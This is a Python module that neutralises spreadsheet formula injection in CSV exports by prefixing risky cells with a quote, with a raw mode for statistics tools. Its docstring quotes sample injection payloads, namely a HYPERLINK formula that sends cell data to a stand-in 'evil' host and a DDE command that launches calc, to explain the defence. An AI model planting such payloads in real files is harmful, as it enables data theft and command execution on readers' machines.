"""CSV cells a spreadsheet will not run: the one guard every CSV export of tipreader goes through.

A cell whose text starts with ``=``, ``+``, ``-``, ``@`` (or their full-width forms), a tab
or a carriage return is read as a formula by Excel, LibreOffice and Google Sheets
(``=HYPERLINK("http://evil/?"&A1, "see")``, ``@SUM(...)``, ``-2+3+cmd|' /C calc'!A0``).
Cable text and notes come from people we do not control, so every CSV cell is written
through :func:`guard_cell`: such a cell gets a leading ``'`` (the OWASP advice), which
spreadsheets show as text. Numbers stay numbers: an ``int``/``float`` or a plain numeric
string (``-3``, ``+1.5``) is written as it is.

R, Stata and pandas read the ``'`` as part of the text. Exports therefore take ``raw=True``
(``--raw-cells`` on the command line) to write every cell exactly as it is, for a file that
will never be opened in a spreadsheet.

    writer = CsvWriter(fh)                 # csv.writer with the guard
    writer.writerow(["ref_id", "text"])
    writer.writerow(["08MEXICO721", "=1+1"])   # written as '=1+1
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO

TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
RAW_HELP = ("write every cell exactly as it is (by default a cell starting with = + - @ gets a leading ' so a "
            "spreadsheet shows it as text and never runs it): for R, Stata or pandas, never for a spreadsheet")


def guard_cell(value: object) -> str:
    """``value`` as CSV cell text a spreadsheet cannot take for a formula (see the module's docstring).

    None is ``""``; numbers (and numeric strings) are unchanged; text starting with a formula
    character gets a leading ``'``."""
    if value is None:
        return ""
    if isinstance(value, int | float):  # bool too
        return str(value)
    text = str(value)
    if text and text[0] in TRIGGERS and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def guard_row(values: Iterable[object]) -> list[str]:
    """Every cell of a row through :func:`guard_cell`."""
    return [guard_cell(v) for v in values]


class CsvWriter:
    """A ``csv.writer`` (RFC 4180 quoting, ``\\r\\n`` rows) whose cells go through :func:`guard_cell`
    unless ``raw``. Open the file with ``newline=""``."""

    def __init__(self, fh: IO[str], *, raw: bool = False) -> None:
        self._writer = csv.writer(fh)
        self.raw = raw

    def writerow(self, values: Iterable[object]) -> None:
        """Write one row (the header too)."""
        self._writer.writerow(list(values) if self.raw else guard_row(values))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        """Write every row of ``rows``."""
        for row in rows:
            self.writerow(row)
